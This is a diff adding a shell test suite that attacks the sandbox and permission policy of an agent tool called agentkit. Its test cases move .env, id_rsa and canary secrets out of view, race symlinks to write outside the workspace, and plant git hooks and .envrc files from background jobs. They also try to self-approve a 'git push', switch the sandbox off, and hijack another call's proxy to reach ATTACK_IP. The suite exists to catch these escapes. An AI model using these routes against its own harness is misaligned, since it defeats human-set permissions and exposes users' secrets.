@@ -1,0 +1,160 @@
+# Attacks in several calls: what one leaves decides what the next may do. Each function is
+# one: it runs outside, in the workspace, and fails when something got out. What a call
+# shows of a secret is found by who runs this. See README.md.
+R=$ATTACK_ROOT O=$ATTACK_OTHER H=$HOME
+script() { cat > "$R/loot/$1"; }
+run() { agentkit bash "$@" >> "$R/loot/out.txt" 2>&1; :; }
+look() { # opens what is named in a way that no text shows
+	script look.pl <<'P'
+use File::Find;
+find({no_chdir => 1, wanted => sub { return unless -f $_; open(my $f, "<", $_) or return; print "$_: ", <$f>, "\n" }}, @ARGV ? @ARGV : ".");
+P
+	run "perl loot/look.pl $1"
+}
+same() { [ "$(cat "$1" 2>/dev/null)" = victim ]; }
+
+s_secret_to_node_modules() {
+	script a.pl <<'P'
+mkdir "node_modules"; rename("sub", "node_modules/sub");
+P
+	run 'perl loot/a.pl'; look; run 'perl -ne print node_modules/*/.e*'
+	agentkit read node_modules/sub/.env >> "$R/loot/out.txt"; agentkit grep CAN[A]RY node_modules >> "$R/loot/out.txt"; :
+}
+s_secret_to_git_objects() {
+	script a.pl <<'P'
+rename("sub", "nested/.git/objects/sub"); rename("private", ".git/objects/p"); rename("sub2", ".git/refs/s");
+P
+	run 'perl loot/a.pl'; look
+}
+s_secret_of_two_names() {
+	script a.pl <<'P'
+rename("crate/.cargo", "crate/cargo"); rename("crate", "crate2"); rename("crate2/.cargo", "crate2/c");
+P
+	run 'perl loot/a.pl'; look
+}
+s_secret_renamed() {
+	script a.pl <<'P'
+for (qw(sub/.env private/key .env sub/id_rsa)) { rename($_, "$_.example"); rename($_, "loot/x"); link($_, "loot/y"); symlink("../$_", "loot/z") }
+rename("private", "public"); rename("sub", "loot/sub.example");
+P
+	run 'perl loot/a.pl'; look
+}
+s_secret_by_other_names() { look; run 'perl -e "print <>" plain.txt sub/plain.txt'; :; }
+s_secret_in_the_place_of_what_is_tracked() {
+	echo once > tracked.env; git add -f tracked.env && git -c user.name=a -c user.email=a@b commit -qm x; run true
+	script a.pl <<'P'
+rename("tracked.env", "loot/t"); rename("sub/.env", "tracked.env"); rename("sub", "tracked.env");
+P
+	run 'perl loot/a.pl'; look
+}
+s_secret_while_a_job_moves_it() {
+	script a.pl <<'P'
+mkdir "node_modules"; for (1..4000) { rename("sub", "node_modules/sub"); rename("node_modules/sub", "sub") }
+P
+	agentkit bash --background 'perl loot/a.pl' > /dev/null
+	for i in 1 2 3 4 5 6; do look; done
+}
+s_link_in_the_way_of_a_rule() {
+	mkdir -p x/y
+	script a.pl <<'P'
+rename("x", "loot/x"); symlink("$ENV{ATTACK_OTHER}", "x");
+P
+	script b.pl <<'P'
+for my $f ("$ENV{ATTACK_OTHER}/y/f", "x/y/f") { open(F, ">", $f) and print F "EVIL"; close F }
+P
+	run --allow 'edit(x/y/**)' 'perl loot/a.pl'; run --allow 'edit(x/y/**)' 'perl loot/b.pl'; same "$O/y/f"
+}
+s_link_in_the_way_of_a_tool() {
+	run 'ln -s "$ATTACK_OTHER/y" x'
+	agentkit write --path x/f --content EVIL > /dev/null; agentkit edit --path x/f --old victim --new EVIL > /dev/null; same "$O/y/f"
+}
+s_link_in_the_way_of_what_is_put_back() {
+	script a.pl <<'P'
+mkdir "loot/real"; mkdir "loot/real/.husky"; mkdir "race"; symlink($ENV{ATTACK_OTHER}, "loot/l");
+mkdir "race/d"; open(F, ">", "race/d/.envrc"); close F; mkdir "race/d/.husky"; open(F, ">", "race/d/.husky/f"); close F;
+for (1..20000) { rename("race", "loot/r"); rename("loot/l", "race"); rename("race", "loot/l"); rename("loot/r", "race") }
+P
+	agentkit bash --background 'perl loot/a.pl' > /dev/null
+	for i in 1 2 3 4 5 6; do run true; done
+	same "$O/d/.husky/f" && same "$O/d/.envrc"
+}
+s_root_replaced() {
+	script a.pl <<'P'
+my ($up, $name) = $ENV{ATTACK_TEMP_ROOT} =~ m{(.*)/(.*)}; chdir $up; rename($name, "$name.away") and symlink($ENV{ATTACK_OTHER}, $name);
+P
+	mkdir -p "$ATTACK_TEMP_ROOT"; cp loot/a.pl "$ATTACK_TEMP_ROOT"
+	(cd "$ATTACK_TEMP_ROOT" && agentkit bash 'perl a.pl' > /dev/null)
+	(cd "$ATTACK_TEMP_ROOT/." 2>/dev/null && agentkit write --path victim --content EVIL > /dev/null)
+	s=0; [ ! -L "$ATTACK_TEMP_ROOT" ] && same "$O/victim" || s=1
+	rm -rf "$ATTACK_TEMP_ROOT" "$ATTACK_TEMP_ROOT.away"; return $s
+}
+s_planted_by_a_job() {
+	script a.pl <<'P'
+for (1..30) { mkdir "late"; mkdir "late/.husky"; open(F, ">", "late/.husky/pre-commit"); print F "PLANTED"; close F; open(F, ">", "late/.envrc"); print F "PLANTED"; close F; select(undef, undef, undef, 0.05) }
+P
+	agentkit bash --background 'perl loot/a.pl' > /dev/null; sleep 0.3; run true; sleep 2; run true
+}
+s_planted_and_killed() {
+	script a.pl <<'P'
+mkdir "k"; open(F, ">", "k/.envrc"); print F "PLANTED"; close F; sleep 60;
+P
+	agentkit bash 'perl loot/a.pl' > /dev/null & p=$!; sleep 0.7; kill -9 $p; wait $p 2>/dev/null; sleep 0.2; run true
+}
+s_planted_and_shut() {
+	script a.pl <<'P'
+mkdir "u"; mkdir "u/v"; open(F, ">", "u/v/.envrc"); print F "PLANTED"; close F; chmod 0, "u/v"; chmod 0111, "u";
+P
+	run 'perl loot/a.pl'; chmod -R u+rwx u 2>/dev/null; :
+}
+s_read_only_profile() {
+	script a.pl <<'P'
+open(F, ">", "src/new") and print F "EVIL"; close F; open(F, ">", "src/f") and print F "EVIL"; unlink "src/f";
+P
+	agentkit --profile readonly --allow 'bash(perl *)' bash 'perl loot/a.pl' >> "$R/loot/out.txt" 2>&1; [ ! -e src/new ] && [ "$(cat src/f)" = "a file" ]
+}
+s_granted_file_only() {
+	script a.pl <<'P'
+for my $n ("new", "victim", ".profile") { open(F, ">", "$ENV{ATTACK_OTHER}/$n") and print F "EVIL"; close F }
+P
+	agentkit --allow "edit($O/granted)" bash "echo x > $O/granted; perl loot/a.pl" >> "$R/loot/out.txt" 2>&1
+	rm -f "$O/granted"; same "$O/victim" && [ ! -e "$O/new" ] && [ ! -e "$O/.profile" ]
+}
+s_approves_itself() {
+	id=$(agentkit --ask= bash 'git push origin main' | sed -n 's/.*policy approve \([a-z0-9]*\).*/\1/p' | head -1)
+	for how in "agentkit policy approve $id" "setsid agentkit policy approve $id" "env -i HOME=\$HOME PATH=\$PATH agentkit policy approve $id" "agentkit policy trust" "agentkit policy allow 'bash(*)'" "echo 'agentkit policy approve $id' | sh" "cp \$(command -v agentkit) loot/ak; loot/ak policy approve $id"; do run "$how"; done
+	! agentkit policy approvals | grep -q '"approved"'
+}
+s_calls_agentkit_without_a_sandbox() {
+	run 'agentkit --sandbox off --allow bash --allow edit bash "echo EVIL > $ATTACK_OTHER/victim"'
+	run 'agentkit --policy /dev/null write --path "$ATTACK_OTHER/victim" --content EVIL'
+	run 'XDG_STATE_HOME=$PWD/loot/state agentkit --sandbox outer bash "echo EVIL > $ATTACK_OTHER/victim"'
+	same "$O/victim"
+}
+s_fills_the_state() {
+	script a.pl <<'P'
+open(S, ">", "/dev/stdout"); my $b = "x" x 65536; for (1..64) { print $b } truncate("/proc/self/fd/1", 0); seek(STDOUT, 0, 0);
+P
+	run 'perl loot/a.pl'; run 'true'
+}
+s_proxy_of_another_call() { # a job looks for the proxy that another command was given
+	script a.py <<'P'
+import os, re, socket, time
+end = time.time() + 2
+while time.time() < end:
+    ports = [int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/tcp").readlines()[1:] if l.split()[3] == "0A"]
+    for port in ports:
+        try:
+            s = socket.create_connection(("127.0.0.1", port), 0.2)
+            s.settimeout(0.3)
+            s.sendall(b"CONNECT %s:%s HTTP/1.1\r\n\r\n" % (os.environ["ATTACK_IP"].encode(), os.environ["ATTACK_TCP"].encode()))
+            print("PROXY", s.recv(100))
+        except OSError:
+            pass
+P
+	agentkit bash --background 'python3 loot/a.py > loot/proxied.txt 2>&1' > /dev/null
+	agentkit --allow "net($ATTACK_IP:$ATTACK_TCP)" bash 'sleep 1; true' > /dev/null; sleep 1.5
+	! grep -q '200' loot/proxied.txt
+}
+
+mkdir -p "$R/loot"; cd "$R" || exit 2
+if [ "$1" = list ]; then sed -n 's/^\(s_[a-z_]*\)().*/\1/p' "$0"; else "$1"; fi
